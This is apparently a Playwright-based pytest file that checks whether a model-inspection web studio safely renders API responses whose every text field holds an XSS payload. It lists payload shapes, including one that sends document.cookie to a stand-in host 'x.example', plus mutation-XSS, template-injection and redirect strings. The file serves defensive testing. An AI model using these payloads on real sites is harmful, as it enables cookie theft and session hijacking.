"""Hostile texts, labels and names of models in the studio: none is executed, no request leaves."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

import browser as browsers
import serving
from gpt1.serving.models import Served
from serving import Running

pytest.importorskip("playwright", reason="without playwright")

TOGETHER = 25  # strings on a page
CALLS = (
    "hit()",
    "window.hits=1",
    "fetch('//x.example/'+document.cookie)",
    "location='//x.example'",
)
SHAPES = [
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    "<svg/onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<a href="javascript:{}" autofocus onfocus="{}">a</a>',
    '"><script>{}</script>',
    "'-{}-'",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "</textarea><img src=//x.example/p onerror={}>",
    "</title></style></script><script>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<style>@import '//x.example/s.css';*{{background:url(//x.example/{})}}</style>",
    "<link rel=stylesheet href=//x.example/{}>",
    '<meta http-equiv=refresh content="0;url=//x.example/{}">',
    "<base href=//x.example/{}>",
    "<form action=//x.example/{}><button autofocus>",
    "<math><mtext></table><mglyph><style><img src onerror={}>",
    "\u202e<img src=x onerror={}>\u2066",
    "__proto__{}",
    "\x00<img src=x onerror={}>\ud7ff",
]


def strings(count: int) -> list[str]:
    """Return hostile strings, the same each time: every shape first, then mixtures of two."""
    draw = random.Random(7)
    made = [shape.format(*[CALLS[n % 4]] * 2) for n, shape in enumerate(SHAPES)]
    while len(made) < count:
        one, other = draw.sample(SHAPES, 2)
        call = draw.choice(CALLS)
        made.append(
            one.format(call, call) + draw.choice(["", " ", "\n", "&lt;"]) + other.format(call, call)
        )
    return made[:count]


def answers(hostile: list[str]) -> dict[str, Any]:
    """Return an answer of each endpoint in which every text is hostile."""
    near = [
        {"id": n, "text": text, "probability": 1 / (n + 2), "logit": 5.0 - n}
        for n, text in enumerate(hostile)
    ]
    size = len(hostile)
    positions = [
        {
            "id": n,
            "text": text,
            "logprob": -1.0 if n else None,
            "rank": 1,
            "alternatives": near[:10],
        }
        for n, text in enumerate(hostile)
    ]
    config = {"n_layer": 2, "n_head": 2, "n_embd": 8, "n_ctx": 64, "vocab_size": size}
    model = {"object": "model", "config": config, "parameters": 1}
    triangle = [[1 / (t + 1) if s <= t else 0.0 for s in range(size)] for t in range(size)]
    chunk = {
        "index": 0,
        "text": "".join(hostile),
        "finish_reason": "length",
        "logprobs": {
            "tokens": hostile,
            "token_ids": list(range(size)),
            "token_logprobs": [-1.0] * size,
        },
    }
    return {
        "models": {
            "data": [
                {**model, "id": hostile[0], "task": None},
                {**model, "id": hostile[1], "task": None},
                *({**model, "id": text, "task": "entailment"} for text in hostile[2:6]),
            ]
        },
        "tokenize": {
            "clean": hostile[0],
            "tokens": [{"id": n, "text": text} for n, text in enumerate(hostile)],
            "words": [
                {"text": t, "merges": [["a", t, 3]], "tokens": [t, "b</w>"]} for t in hostile
            ],
        },
        "next_tokens": {"ids": [0], "next": near[:10], "logits": [c["logit"] for c in near]},
        "explain": {
            "ids": list(range(size)),
            "tokens": hostile,
            "positions": positions,
            "next": near[:10],
            "lens": [[near[:5]] * size] * 3,
            "attention": {f"{layer}.{head}": triangle for layer in (0, 1) for head in (0, 1)},
            "logits_shape": [1, size, size],
        },
        "classify": {
            "data": [{"prediction": hostile[3], "probabilities": dict.fromkeys(hostile, 0.1)}]
        },
        "completions": "data: " + json.dumps({"choices": [chunk]}) + "\n\ndata: [DONE]\n\n",
    }


@pytest.fixture(scope="module")
def server() -> Iterator[Running]:
    with serving.running([Served.of("tiny", serving.gpt(), slots=1)]) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with browsers.chromium() as browser:
        yield browser


COUNTS = [pytest.param(30, id="30"), pytest.param(500, id="500", marks=pytest.mark.slow)]


@pytest.mark.timeout(600)
@pytest.mark.parametrize("count", COUNTS)
def test_nothing_is_executed_and_no_request_leaves(
    browser: Any, server: Running, count: int
) -> None:
    made = strings(count)
    for start in range(0, count, TOGETHER):
        hostile = made[start : start + TOGETHER]
        hostile += made[: max(0, 10 - len(hostile))]
        _visit(browser, server, hostile)


def test_an_error_of_the_server_is_shown_as_text(browser: Any, server: Running) -> None:
    page = browser.new_page()
    fault = {"error": {"message": SHAPES[1].format("hit()")}}
    page.route("**/v1/explain", lambda route: route.fulfill(status=400, json=fault))
    page.goto(server.base_url)
    page.wait_for_selector("main h1")
    page.click("button.primary")
    page.wait_for_selector(".alert p")
    assert page.inner_text(".alert p") == fault["error"]["message"]
    assert page.locator("#studio img").count() == 0
    page.close()


def _visit(browser: Any, server: Running, hostile: list[str]) -> None:
    told, requested, dialogs = answers(hostile), [], []
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; };")
    page.on("request", lambda request: requested.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def reply(route: Any) -> None:
        answer = told[urlsplit(route.request.url).path.removeprefix("/v1/")]
        if isinstance(answer, str):
            route.fulfill(body=answer, content_type="text/event-stream")
        else:
            route.fulfill(json=answer)

    page.route("**/v1/**", reply)
    page.goto(server.base_url)
    page.wait_for_selector("main h1")
    page.fill("#prompt", hostile[0])
    page.click("button.primary")
    page.wait_for_selector(".token.after")
    page.click(".token[data-index='1']")
    shown = page.eval_on_selector_all(".token[data-id]", "all => all.map((one) => one.textContent)")
    assert [text.strip() for text in shown[: len(hostile)]] == [
        text.replace("\n", "⏎").strip() for text in hostile
    ]
    page.click(".tab[data-view=walk]")
    page.wait_for_selector(".step")
    for step in range(8):
        page.click(f"[data-step='{step}']")
    page.click(".strip + .actions button >> nth=0")
    page.click(".tab[data-view=inside]")
    page.wait_for_selector(".map")
    page.click("[data-value=lens]")
    page.wait_for_selector(".lens")
    page.click(".tab[data-view=tasks]")
    page.wait_for_selector(".figure")
    page.click(".example .quiet >> nth=0")
    page.wait_for_selector(".answer")
    page.click(".tab[data-view=compare]")
    page.wait_for_selector(".column >> nth=1")
    tags = page.evaluate(
        "[...new Set([...document.querySelectorAll('*')].map((n) => n.localName))]"
    )
    assert not {"iframe", "img", "svg", "style", "base", "object", "embed", "math"} & set(tags)
    assert page.locator("script").count() == 1
    assert page.evaluate("window.hits") == 0
    assert dialogs == []
    known = ("/v1/", "/views/", "/icon.svg", "/style.css")
    for url in requested:
        parts = urlsplit(url)
        assert f"{parts.scheme}://{parts.netloc}" == server.base_url, url
        assert parts.path == "/" or parts.path.startswith(known) or parts.path.endswith(".js"), url
    context.close()
